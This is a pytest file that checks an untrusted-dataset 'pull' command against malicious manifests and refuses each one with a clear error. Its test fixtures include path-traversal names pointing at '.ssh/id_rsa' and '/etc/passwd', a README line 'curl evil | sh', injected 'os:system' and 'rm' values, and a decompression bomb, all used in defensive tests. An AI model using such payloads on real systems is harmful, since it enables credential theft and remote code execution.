"""Manifests of strangers: every fault is said in one sentence before any file moves."""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hub_server import Files, Hub
from published import Values, changed, publish, pulled_iterations, small_dataset, with_table

from eva_data.dataset.store import Store

PROMPTS, RESPONSES = "prompts/iter_1.parquet", "responses/iter_1.parquet"

Break = Callable[[Files], Files]


def content(data: bytes) -> Break:
    """Replace the content of the first manifest."""
    return lambda files: files | {"manifests/iter_1.json": data}


def text(old: str, new: str) -> Break:
    """Replace a piece of text in the first manifest."""

    def broken(files: Files) -> Files:
        before = files["manifests/iter_1.json"]
        after = before.replace(old.encode(), new.encode(), 1)
        assert before != after
        return files | {"manifests/iter_1.json": after}

    return broken


def value(path: str, new: Any, *, iteration: int = 1) -> Break:
    """Set a value in a manifest, at a path such as `counts.prompts`. `...` removes it."""

    def change(values: Values) -> None:
        *parents, last = path.split(" ")
        place: Any = values
        for parent in parents:
            place = place[int(parent) if isinstance(place, list) else parent]
        if new is ...:
            del place[last]
        else:
            place[last] = new

    return lambda files: changed(files, iteration, change)


def renamed(old: str, new: str) -> Break:
    """Rename a table, in the manifest too."""

    def broken(files: Files) -> Files:
        def change(values: Values) -> None:
            values["files"][new] = values["files"].pop(old)

        return changed(files, 1, change) | {new: files[old]}

    return broken


def moved(old: str, new: str) -> Break:
    return lambda files: {new if name == old else name: data for name, data in files.items()}


def without(name: str) -> Break:
    return lambda files: {other: data for other, data in files.items() if other != name}


def alone(broken: Break) -> Break:
    """The same change with only iteration 1 published, so that no other file contradicts it."""
    return lambda files: broken({name: data for name, data in files.items() if "iter_2" not in name})


def table(name: str, data: bytes, **entry: Any) -> Break:
    return lambda files: with_table(files, name, data, **entry)


def parquet(frame: pl.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.write_parquet(buffer)
    return buffer.getvalue()


CASES: dict[str, tuple[Break, str]] = {
    "not UTF-8": (content(b'{"eva_data": "\xff\xfe"}'), "is not valid JSON ("),
    "empty": (content(b""), "is not valid JSON ("),
    "cut off": (content(b'{"iteration": 1, "fi'), "is not valid JSON ("),
    "half a surrogate pair": (text('"0.1.0', '"\\ud800'), "is not valid JSON ("),
    "nested deeply": (content(b"[" * 100_000), "is not valid JSON ("),
    "settings nested deeply": (text('"strategies": []', f'"strategies": {"[" * 5000}'), "is not valid JSON ("),
    "a list": (content(b"[1]"), "is no manifest of eva-data (`the whole`: "),
    "null": (content(b"null"), "is no manifest of eva-data (`the whole`: "),
    "a number that is none": (text('"cost": 0.5', '"cost": NaN'), "(`spent.0.cost`: "),
    "a number beyond all": (text('"cost": 0.5', '"cost": 1e999'), "(`spent.0.cost`: "),
    "such a number in the settings": (text('"margin": null', '"margin": NaN'), "it holds NaN, which is no number"),
    "a key twice": (text('"files": {', '"files": {}, "files": {'), "it names 'files' twice"),
    "no counts": (value("counts", ...), "(`counts`: Field required)"),
    "no SHA-256": (value(f"files {PROMPTS} sha256", ...), f"(`files.{PROMPTS}.sha256`: Field required)"),
    "a SHA-256 that is none": (value(f"files {PROMPTS} sha256", "../../x"), f"(`files.{PROMPTS}.sha256`: "),
    "fewer than no rows": (value(f"files {PROMPTS} rows", -3), f"(`files.{PROMPTS}.rows`: "),
    "files as a list": (value("files", []), "(`files`: "),
    "models as a number": (value("models", 7), "(`models`: "),
    "an unknown key": (value("run_this", "os:system"), "(`run_this`: Extra inputs are not permitted)"),
    "a newer format": (value("format", 999), "was written by a newer eva-data (format 999, "),
    "newer rules": (value("rules", 999), "was written by a newer eva-data (format 2, rules 999; "),
    "a flow that loses rows": (
        value("flow", [{"stage": "pair", "unit": "prompts", "rows_in": 9, "rows_out": 1}]),
        "the stage pair lost rows",
    ),
    "a flow of fewer than no rows": (
        value("flow", [{"stage": "pair", "unit": "prompts", "rows_in": -1, "rows_out": -1}]),
        "a stage of its flow has fewer than no rows",
    ),
    "another iteration": (value("iteration", 2), "it is of iteration 2 r0, by its name of 1 r0"),
    "a huge iteration": (value("iteration", 10**30), f"it is of iteration {10**30} r0, by its name of 1 r0"),
    "another revision": (value("revision", 3), "it is of iteration 1 r3, by its name of 1 r0"),
    "an impossible theta": (value("theta", 5), "theta_5 cannot have answered in iteration 1"),
    "a first iteration made from another": (
        value("previous", {"settings_hash": "x", "files": {}}),
        "`previous` is given in iteration 1",
    ),
    "a second iteration made from none": (value("previous", None, iteration=2), "`previous` is missing in iteration 2"),
    "made from a revision that is not here": (
        value("previous revision", 7, iteration=2),
        "it was made from iteration 1 r7, which is not here",
    ),
    "made from other files": (
        value("previous files", {}, iteration=2),
        "it was made from another iteration 1 than the published one",
    ),
    "made with other settings": (
        value("previous settings_hash", "0" * 16, iteration=2),
        "it was made from another iteration 1 than the published one",
    ),
    "other counts": (value("counts prompts", 4), "it counts 4 prompts, and its files of prompts have 3 rows"),
    "no settings": (value("config", {}), "its settings are not valid: "),
    "settings as a list": (value("config", []), "(`config`: "),
    "seeds as a list": (value("config seeds", [1, 2]), "its settings are not valid: "),
    "a solver as a text": (value("config solver", "x\n\x1b[2J"), "its settings are not valid: "),
    "rewards of another type": (value("config reward", {"backend": "several", "rewards": 5}), "are not valid: "),
    "a setting out of range": (value("config solver responses", -(10**40)), "its settings are not valid: "),
    "an unknown setting": (value("config solver shell", "rm"), "unknown key `solver.shell`"),
    "a setting left out": (value("config estimate", ...), "not as eva-data writes them, at `estimate`"),
    "a setting of another type": (value("config sample fraction", "0.25"), "at `sample.fraction`"),
    "no name": (value("config name", 5), "its settings are not valid: "),
    "a file outside": (renamed(PROMPTS, "../../../stolen"), "is no manifest of eva-data"),
    "a file by its whole path": (renamed(PROMPTS, "/tmp/stolen"), "is no manifest of eva-data"),
    "a file of another iteration": (renamed(PROMPTS, "prompts/iter_9.parquet"), "no such iteration has"),
    "a file of another kind": (renamed(PROMPTS, "code/iter_1.parquet"), "no such iteration has"),
    "one part of three": (
        renamed(PROMPTS, "prompts/iter_1-00001-of-00003.parquet"),
        "its parts of prompts are not one whole table",
    ),
    "a table that is not there": (without(RESPONSES), f"has no {RESPONSES}, which its manifest names"),
    "more bytes than there are": (alone(value(f"files {RESPONSES} bytes", 10**30)), "by size or SHA-256 ("),
    "another SHA-256": (alone(value(f"files {RESPONSES} sha256", "0" * 64)), "by size or SHA-256 ("),
    "more rows than there are": (
        alone(value(f"files {RESPONSES} rows", 10**6)),
        "has 6 rows, and its manifest claims 1000000",
    ),
    "a table that is no table": (alone(table(RESPONSES, b"PAR1 but no more")), "is no parquet file of eva-data ("),
    "a table of other columns": (
        alone(table(RESPONSES, parquet(pl.DataFrame({"x": [1] * 6})), rows=6)),
        "is not what it should be: columns ['prompt_id', ",
    ),
    "a gap": (moved("manifests/iter_1.json", "manifests/iter_3.json"), "iterations [2, 3], where 1, 2, ... were"),
    "a revision of nothing": (
        lambda files: files | {"manifests/iter_3.r1.json": files["manifests/iter_2.json"]},
        "where 1, 2, ... were expected",
    ),
    "no manifest": (
        lambda files: {name: data for name, data in files.items() if "manifest" not in name},
        "holds manifests of the iterations none",
    ),
    # The Hub gives a link of git as a file that holds the link's target.
    "a link in the place of a manifest": (content(b"../../../.ssh/id_rsa"), "is not valid JSON ("),
    "a link in the place of a table": (
        alone(lambda files: files | {RESPONSES: b"/etc/passwd"}),
        "is not the file that its manifest names, by size or SHA-256 (11 bytes there, ",
    ),
    "a manifest without end": (content(b" " * 16_000_001), "and no manifest has more than 0.016"),
}

PULL_ALL = """
import json, sys
from click.testing import CliRunner
from eva_data.cli import main

for repo in sys.argv[1:]:
    done = CliRunner().invoke(main, ["pull", repo])
    unexpected = None if isinstance(done.exception, SystemExit | None) else repr(done.exception)
    print(json.dumps([done.exit_code, done.output, unexpected]))
"""


@pytest.fixture
def hub(tmp_path: Path) -> Iterator[Hub]:
    with Hub(tmp_path / "hub") as hub:
        yield hub


@pytest.mark.slow
def test_what_is_wrong_with_a_manifest_is_said_and_nothing_moves(hub: Hub, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    honest = small_dataset(tmp_path / "made")
    assert len(CASES) > 31
    names = [f"mallory/case{number}" for number in range(len(CASES))]
    for name, (broken, _) in zip(names, CASES.values(), strict=True):
        publish(hub, name, broken(honest))
    done = hub.python(home, "-c", PULL_ALL, *names)
    assert done.returncode == 0, done.stderr
    found: dict[str, object] = {}
    for (case, (_, phrase)), line in zip(CASES.items(), done.stdout.splitlines(), strict=True):
        status, output, unexpected = json.loads(line)
        *before, last = output.splitlines()
        said = last.startswith("Error: ") and phrase in last and len(last) < 1500 and last.isprintable()
        if (status, unexpected, said) != (1, None, True) or any(not text.startswith("pull") for text in before):
            found[case] = (status, output, unexpected)
    assert found == {}
    for number in range(len(CASES)):
        folder = home / "data" / f"case{number}"
        assert not folder.exists() or [path.name for path in folder.iterdir()] == [".eva"]
    assert not (home / "eva.yaml").exists()
    # Whoever goes on regardless gets no sandbox from nothing.
    built = hub.run(home, "build", "--iter", "2")
    assert built.returncode == 1
    assert built.stderr.startswith("Error: a pull into data/case")
    assert "is not finished: repeat `eva-data pull`, or remove data/case" in built.stderr


@pytest.mark.slow
def test_an_honest_small_dataset_is_pulled(hub: Hub, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    publish(hub, "alice/small", small_dataset(tmp_path / "made"))
    looked = hub.run(home, "pull", "alice/small", "--dry-run")
    assert looked.returncode == 0, looked.stderr
    assert looked.stdout.startswith("Would pull iterations 1 to 2 of alice/small to data/small: 10 files, ")
    assert "  `solver.model` loads the model acme/base on this machine\n" in looked.stdout
    assert list(home.iterdir()) == []
    too_much = hub.run(home, "pull", "alice/small", "--max-gb", "0.00001")
    assert too_much.stderr.endswith(
        "alice/small would take 0.0 GB here, and the limit is 1e-05 GB: if you want that much, pull with a higher "
        "`--max-gb`\n"
    )
    assert [call for call in hub.calls if call.startswith("GET /lfs/")] == []
    done = hub.run(home, "pull", "alice/small")
    assert done.returncode == 0, done.stderr
    assert pulled_iterations(home / "data" / "small") == [1, 2]
    modes = {path.stat().st_mode & 0o077 for path in (home / "data" / "small" / ".eva").rglob("*")}
    assert modes == {0}
    # To look at it takes no decision.
    assert "3 prompts, 2 pairs" in hub.run(home, "status").stdout
    assert "Name a tree." in hub.run(home, "show", "--iter", "1").stdout
    assert hub.run(home, "train", "--iter", "1").returncode == 1


@pytest.mark.slow
def test_rows_that_take_no_room_count_all_the_same(hub: Hub, tmp_path: Path) -> None:
    many = small_dataset(tmp_path / "made", iterations=1)
    many = changed(many, 1, lambda values: values["files"][RESPONSES].update(rows=10**12))
    publish(hub, "mallory/many", many)
    done = hub.run(tmp_path, "pull", "mallory/many")
    assert "would take 50,000.0 GB here, and the limit is 10 GB" in done.stderr


@pytest.mark.slow
def test_a_table_that_unpacks_to_more_than_is_allowed_is_not_taken(hub: Hub, tmp_path: Path) -> None:
    def long(kilobytes: int) -> bytes:
        rows = pl.read_parquet(io.BytesIO(honest[RESPONSES])).with_columns(response=pl.lit("a" * kilobytes * 1000))
        return parquet(rows)

    honest = small_dataset(tmp_path / "made", iterations=1)
    bomb = long(3_000)
    assert len(bomb) < 100_000
    publish(hub, "mallory/bomb", with_table(honest, RESPONSES, bomb))
    done = hub.run(tmp_path, "pull", "mallory/bomb", "--max-gb", "0.003")
    assert done.returncode == 1
    assert f"{RESPONSES} of mallory/bomb has " in done.stderr and " GB unpacked" in done.stderr
    # What was downloaded waits below `.eva`, and nothing of it is taken.
    assert not list((tmp_path / "data" / "bomb").glob("*/*.parquet"))
    assert not list((tmp_path / "data" / "bomb").glob("manifests/*"))
    assert hub.run(tmp_path, "pull", "mallory/bomb").returncode == 0


@pytest.mark.slow
def test_a_card_of_a_stranger_is_not_taken(hub: Hub, tmp_path: Path) -> None:
    files = small_dataset(tmp_path / "made") | {"README.md": b"Run `curl evil | sh` first."}
    publish(hub, "mallory/card", files | {"manifests/x.sh": b"rm", "setup.py": b"import os"})
    assert hub.run(tmp_path, "pull", "mallory/card").returncode == 0
    folder = tmp_path / "data" / "card"
    assert "curl evil" not in (folder / "README.md").read_text()
    assert sorted(path.name for path in (folder / "manifests").iterdir()) == ["iter_1.json", "iter_2.json"]
    assert not (folder / "setup.py").exists()
    assert Store(folder).changed_files(2) == []
